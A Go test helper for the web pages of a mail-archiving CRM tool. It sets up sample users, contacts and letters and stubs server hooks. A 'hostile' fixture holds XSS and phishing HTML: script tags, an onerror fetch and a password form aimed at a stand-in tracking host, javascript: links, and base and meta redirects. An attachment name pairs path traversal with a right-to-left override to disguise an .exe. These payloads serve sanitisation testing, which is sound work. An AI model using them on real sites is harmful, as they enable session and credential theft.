package web

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"testing"
	"time"

	"postern/crm"
	"postern/engine"
	"postern/mail"
	"postern/match"
	"postern/store"
	"postern/store/storetest"
)

// The sample: a company with three users, of whom the third has no allowed domain, two
// contacts, and a few letters that are told apart by words that stand in one alone.
const (
	ann = "ann@acme.example" // administrator
	bob = "bob@acme.example"
	zed = "zed@other.example"
	cyn = "cyn@client.example"
	dan = "dan@partner.example"

	samplePassword = "correct horse battery"
)

// sampleNow is noon of a Saturday; letters lie in the days before.
var sampleNow = time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC)

// hostile tries what letters of attackers try. The word "harmless" stays.
const hostile = `<p>harmless</p><script>document.title='owned'</script><img src="https://track.example/pixel.png" onerror="fetch('https://track.example/x')">
<a href="javascript:alert(1)">click</a><form action="https://track.example/steal"><input name="password"></form><svg onload="alert(1)"></svg>
<iframe src="https://track.example/frame"></iframe><meta http-equiv="refresh" content="0;url=https://track.example/"><style>@import "https://track.example/style.css"</style><base href="https://track.example/">`

type letter struct {
	id, from, to, cc, bcc, subject, text, html string
	box, folder                                string
	days                                       int // before sampleNow
	re                                         string
	read                                       bool
	files                                      []crm.Attachment
	sensitivity                                crm.Sensitivity
}

var sampleLetters = []letter{
	{id: "offer", from: cyn, to: ann + " " + bob, subject: "Offer for the pumps", text: "The price of marmalade holds until Friday.", box: ann, folder: "inbox", days: 3},
	{id: "offer", from: cyn, to: ann + " " + bob, subject: "Offer for the pumps", text: "The price of marmalade holds until Friday.", box: bob, folder: "inbox", days: 3, read: true},
	{id: "reply", from: ann, to: cyn, bcc: "secret@nowhere.example", subject: "Re: Offer for the pumps", text: "We take <b>forty</b> of them.", box: ann, folder: "sentitems", days: 2, re: "offer", read: true},
	{id: "attack", from: dan, to: ann, subject: `<script>alert("subject")</script>`, html: hostile, box: ann, folder: "inbox", days: 1,
		files: []crm.Attachment{{ID: "a1", Name: "in/../voice\u202efdp.exe", Type: "text/html", Size: 31}, {ID: "a2", Name: "huge.iso", Type: "application/octet-stream", Size: 99e6, Note: "link to a cloud file"}}},
	{id: "bobs", from: dan, to: bob, subject: "Only for Bob", text: "The quiet harbour.", box: bob, folder: "inbox", days: 1},
	{id: "stranger", from: "x@nowhere.example", to: ann, subject: "never stored", text: "never stored", box: ann, folder: "inbox", days: 1},
	{id: "diary", from: cyn, to: ann, subject: "never stored", text: "never stored", box: ann, folder: "inbox", days: 1, sensitivity: crm.Private},
}

// A site is the pages over a real store with the sample in it.
type site struct {
	*testing.T
	now        time.Time
	db         *storetest.DB
	org        *store.Org
	server     *server
	looked     [][]crm.MailboxID
	steps      []crm.Finding
	tested     []crm.Settings
	checked    []engine.CheckUp
	sought     []string
	found      string
	lost       error
	watches    map[crm.MailboxID]crm.Watch
	budgets    []crm.Budget
	unwritable *crm.Fault        // why nothing can be written down
	cookies    map[string]string // by address
}

// newSite returns a site with nothing but its users and contacts.
func newSite(t *testing.T) *site {
	t.Helper()
	ctx := context.Background()
	s := &site{T: t, now: sampleNow, cookies: map[string]string{}}
	s.db = storetest.OpenDB(t, store.Options{Now: func() time.Time { return s.now }})
	s.org = s.db.Org(1)
	_, err := s.org.SaveUsers(ctx, []crm.User{
		{Name: "Ann Archer", Addresses: []mail.Address{ann}, Admin: true, Active: true},
		{Name: "Bob Baker", Addresses: []mail.Address{bob}, Active: true},
		{Name: "Zed Zander", Addresses: []mail.Address{zed}, Active: true},
	})
	if err != nil {
		t.Fatal(err)
	}
	_, err = s.org.SaveContacts(ctx, []crm.Contact{
		{Name: "Cyn Clark", Company: "Client & Sons", Title: "Buyer", Addresses: []mail.Address{cyn, "c.y@client.example"}},
		{Name: "Dan Dörr", Company: "Partner GmbH", Addresses: []mail.Address{dan}},
	})
	if err != nil {
		t.Fatal(err)
	}
	s.server, err = newServer(Config{
		Org: s.org, Connector: sampleConnector, Log: slog.New(slog.NewTextHandler(t.Output(), nil)), Now: func() time.Time { return s.now },
		LookNow: func(_ context.Context, ids ...crm.MailboxID) error { s.looked = append(s.looked, ids); return nil },
		Test: func(_ context.Context, settings crm.Settings, tell func(crm.Finding)) error {
			s.tested = append(s.tested, settings)
			for _, f := range s.steps {
				tell(f)
			}
			return nil
		},
		NextCheck: func(context.Context) (engine.CheckUp, error) { return engine.CheckUp{Outside: zed}, nil },
		Check: func(ctx context.Context, up engine.CheckUp, tell func(crm.Finding)) (*store.Check, error) {
			s.checked = append(s.checked, up)
			for _, f := range s.steps {
				tell(f)
			}
			return s.org.SaveCheck(ctx, store.Check{Began: sampleNow, Outside: up.Outside, Stranger: up.Stranger, Findings: s.steps})
		},
		Discover: func(_ context.Context, box mail.Address, settings crm.Settings, confirmed string, tell func(crm.Finding)) (string, error) {
			s.sought = append(s.sought, string(box)+" by "+settings.Login+" "+confirmed)
			for _, f := range s.steps {
				tell(f)
			}
			return s.found, s.lost
		},
		Progress:   func(crm.MailboxID) (engine.Progress, bool) { return engine.Progress{}, false },
		Watch:      func(id crm.MailboxID) crm.Watch { return s.watches[id] },
		Budgets:    func() []crm.Budget { return s.budgets },
		Trouble:    func() (*crm.Fault, time.Time) { return s.unwritable, sampleNow.Add(-5 * time.Minute) },
		HasAddress: func(a netip.Addr) (bool, error) { return a.IsLoopback(), nil },
		LoadAttachment: func(context.Context, int64) error {
			return &crm.Fault{Code: "no-server", Message: "There is no server in this test.", Advice: "Start one."}
		},
		Original: func(_ context.Context, _ crm.UserID, id crm.MessageID) (io.ReadCloser, error) {
			return io.NopCloser(strings.NewReader(fmt.Sprintf("Subject: message %d\r\n\r\n<script>", id))), nil
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

var sampleConnector = crm.Connector{Name: "ews", Title: "Exchange", Versions: []crm.Version{{Name: "2007", Title: "Exchange 2007"}, {Name: "2019", Title: "Exchange 2019"}},
	ScriptVersions: []crm.Version{{Name: "2007", Title: "Exchange 2007"}, {Name: "2019", Title: "Exchange 2019"}}, Scripts: sampleScripts}

// newFilledSite returns a site that has collected the sample.
func newFilledSite(t *testing.T) *site {
	t.Helper()
	s, ctx := newSite(t), context.Background()
	s.enable()
	boxes, _, err := s.org.Mailboxes(ctx, store.ListQuery{})
	if err != nil {
		t.Fatal(err)
	}
	for _, box := range boxes {
		folders, err := s.org.SaveFolders(ctx, box.ID, []store.Folder{
			{Folder: crm.Folder{ID: "inbox", Name: "Inbox", Role: crm.Inbox, Kind: crm.Email}, Path: "Inbox", InScope: true},
			{Folder: crm.Folder{ID: "sent", Name: "Sent Items", Role: crm.SentItems, Kind: crm.Email}, Path: "Sent Items", InScope: true},
			{Folder: crm.Folder{ID: "drafts", Name: "Drafts", Role: crm.Drafts, Kind: crm.Email}, Path: "Drafts"},
		})
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range folders {
			s.collect(&box.Mailbox, f)
		}
		box.State, box.Since, box.Checked = crm.Live, sampleNow.Add(-time.Hour), sampleNow.Add(-9*time.Second)
		if err := s.org.SaveMailbox(ctx, &box.Mailbox); err != nil {
			t.Fatal(err)
		}
	}
	return s
}

func (s *site) enable() {
	s.Helper()
	err := s.org.SaveSettings(context.Background(), crm.Settings{
		Enabled: true, Server: "mail.acme.example", Version: "2019", Login: `ACME\svc`, Password: crm.NewSecret("hidden-password"), Domains: []string{"acme.example"}, UserAgent: "Postern/1",
	})
	if err != nil {
		s.Fatal(err)
	}
}

// collect files what the sample has for one folder, as the engine would.
func (s *site) collect(box *crm.Mailbox, f store.Folder) {
	s.Helper()
	ctx := context.Background()
	var items []*crm.Item
	var headers []crm.Header
	for _, l := range sampleLetters {
		if l.box == string(box.Address) && l.folder == string(f.Role) {
			items = append(items, l.item())
			headers = append(headers, l.item().Header)
		}
	}
	people, rev, err := s.org.People(ctx, headers)
	if err != nil {
		s.Fatal(err)
	}
	page := store.Page{Mailbox: box, Folder: f.ID, Epoch: f.Epoch, Rev: rev, SetCursor: true, Next: "end", Last: true}
	for i, d := range match.Decide(headers, people, match.Rules{Domains: []string{"acme.example"}, Limits: crm.DefaultPolicy().Limits}) {
		e := store.Entry{Header: &headers[i], Decision: d, Folder: f.ID}
		if d.Outcome == crm.Filed {
			e.Item = items[i]
		}
		page.Entries = append(page.Entries, e)
	}
	if _, err := s.org.SavePage(ctx, page); err != nil {
		s.Fatal(err)
	}
}

func (l letter) item() *crm.Item {
	i := &crm.Item{}
	i.ID, i.Version, i.Read = l.id+"/"+l.box, "1", l.read
	i.Kind, i.Class, i.MessageID, i.Subject, i.Sensitivity = crm.Email, "IPM.Note", l.id+"@mail.example", l.subject, l.sensitivity
	i.Sent = sampleNow.AddDate(0, 0, -l.days)
	i.Received = i.Sent.Add(time.Second)
	if l.re != "" {
		i.References = []string{l.re + "@mail.example"}
	}
	for _, p := range []struct {
		part crm.Part
		list string
	}{{crm.From, l.from}, {crm.To, l.to}, {crm.Cc, l.cc}, {crm.Bcc, l.bcc}} {
		for _, address := range strings.Fields(p.list) {
			i.People = append(i.People, crm.Participant{Part: p.part, Address: mail.Address(address)})
		}
	}
	i.HTML, i.Text, i.Attachments = l.html, l.text, l.files
	if l.html != "" {
		i.Text = mail.Text(l.html)
	}
	return i
}

// as returns the cookie of a session of this user.
func (s *site) as(address string) string {
	s.Helper()
	if address == "" {
		return ""
	}
	if s.cookies[address] == "" {
		user, _, err := s.org.SignIn(context.Background(), mail.Address(address))
		if err != nil {
			s.Fatal(err)
		}
		token, err := s.org.NewSession(context.Background(), user.ID, time.Hour)
		if err != nil {
			s.Fatal(err)
		}
		s.cookies[address] = token
	}
	return s.cookies[address]
}

// do sends a request as a user ("" = nobody) and returns the answer.
func (s *site) do(who, method, url, kind, body string, header ...string) *http.Response {
	s.Helper()
	r := httptest.NewRequest(method, url, strings.NewReader(body))
	if kind != "" {
		r.Header.Set("Content-Type", kind)
	}
	for i := 0; i+1 < len(header); i += 2 {
		r.Header.Set(header[i], header[i+1])
	}
	if token := s.as(who); token != "" {
		r.AddCookie(&http.Cookie{Name: "postern", Value: token})
	}
	w := httptest.NewRecorder()
	s.server.handler().ServeHTTP(w, r)
	return w.Result()
}

const formType = "application/x-www-form-urlencoded"

func (s *site) get(who, url string) *http.Response { s.Helper(); return s.do(who, "GET", url, "", "") }

func (s *site) post(who, url, form string) *http.Response {
	s.Helper()
	return s.do(who, "POST", url, formType, form)
}

// text is what was answered, without the marks where addresses may break.
func text(t *testing.T, r *http.Response) string {
	t.Helper()
	b, err := io.ReadAll(r.Body)
	if err != nil {
		t.Fatal(err)
	}
	return strings.ReplaceAll(string(b), "<wbr>", "")
}

// message returns the row id of a letter of the sample.
func (s *site) message(id string) crm.MessageID {
	s.Helper()
	ctx := context.Background()
	boxes, _, err := s.org.Mailboxes(ctx, store.ListQuery{})
	if err != nil {
		s.Fatal(err)
	}
	for _, box := range boxes {
		list, err := s.org.Explain(ctx, box.ID, id+"@mail.example")
		if err != nil {
			s.Fatal(err)
		}
		for _, e := range list {
			if e.Message != 0 {
				return e.Message
			}
		}
	}
	s.Fatalf("no message %q is filed", id)
	return 0
}

func (s *site) contact(name string) crm.ContactID {
	s.Helper()
	list, _, err := s.org.Contacts(context.Background(), store.ListQuery{Text: name})
	if err != nil || len(list) != 1 {
		s.Fatalf("contacts named %q: %d, %v", name, len(list), err)
	}
	return list[0].ID
}

func (s *site) user(name string) store.UserView {
	s.Helper()
	list, _, err := s.org.Users(context.Background(), store.ListQuery{Text: name})
	if err != nil || len(list) != 1 {
		s.Fatalf("users named %q: %d, %v", name, len(list), err)
	}
	return list[0]
}
